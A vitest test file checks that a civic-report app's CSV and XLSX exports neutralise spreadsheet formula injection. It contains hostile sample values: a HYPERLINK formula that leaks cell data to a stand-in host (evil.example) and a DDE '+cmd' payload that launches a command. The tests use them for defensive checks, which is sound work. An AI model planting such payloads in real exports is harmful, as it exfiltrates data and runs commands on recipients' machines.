import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvStream, csvText, neutraliseCell } from '../../api/core/export/csv';
import { call, createTestApp, type TestApp } from '../support/app';
import { createLaksaRegion, fileLaksaReport, type LaksaRegion } from '../support/laksa';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")';
const DDE = "+cmd|' /C calc'!A0";

describe('the CSV writer (api/core/export/csv.ts)', () => {
  it('prefixes every cell a spreadsheet would run as a formula with a quote', () => {
    for (const evil of [HYPERLINK, DDE, '-2+3+cmd|x', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '-1+2', '+'])
      expect(neutraliseCell(evil), JSON.stringify(evil)).toBe(`'${evil}`);
  });

  it('leaves plain text, plain numbers and number-like strings (coordinates, prices) alone', () => {
    for (const ok of ['Jalan rusak', '-6.17', '+62', '106.63', '-0.5e3', '13500', 'a=b', ''])
      expect(neutraliseCell(ok)).toBe(ok);
    expect(csvText([[-6.17, 106.63, 13500]])).toBe('-6.17,106.63,13500\n');
  });

  it('guards both the one-shot and the streaming writer', async () => {
    expect(parse(csvText([[HYPERLINK, DDE]]))).toEqual([[`'${HYPERLINK}`, `'${DDE}`]]);
    const stream = csvStream({ header: true, columns: ['a', 'b'] });
    stream.write([DDE, -6.17]);
    stream.end();
    let text = '';
    for await (const chunk of stream) text += chunk;
    expect(parse(text)).toEqual([
      ['a', 'b'],
      [`'${DDE}`, '-6.17'],
    ]);
  });
});

describe('LAKSA inbox exports of hostile citizen text', () => {
  let t: TestApp;
  let g: LaksaRegion;
  beforeAll(async () => {
    t = await createTestApp();
    g = await createLaksaRegion(t);
    await fileLaksaReport(t, g, { description: HYPERLINK, address: DDE });
  });
  afterAll(() => t.close());

  it('the CSV has no cell that starts a formula', async () => {
    const res = await call(t, g.r, { method: 'GET', url: '/api/m/laksa/inbox/export.csv', as: g.operator });
    expect(res.statusCode).toBe(200);
    const cells: string[] = parse(res.body.replace(/^\uFEFF/, '')).flat();
    expect(cells).toContain(`'${HYPERLINK}`);
    expect(cells).toContain(`'${DDE}`);
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  });

  it('the XLSX keeps the text as text cells, never formulas', async () => {
    const res = await call(t, g.r, { method: 'GET', url: '/api/m/laksa/inbox/export.xlsx', as: g.operator });
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells = wb.getWorksheet('Laporan')!.getRow(2);
    const found = [] as unknown[];
    cells.eachCell((c) => {
      expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
      found.push(c.value);
    });
    expect(found).toContain(HYPERLINK);
  });
});
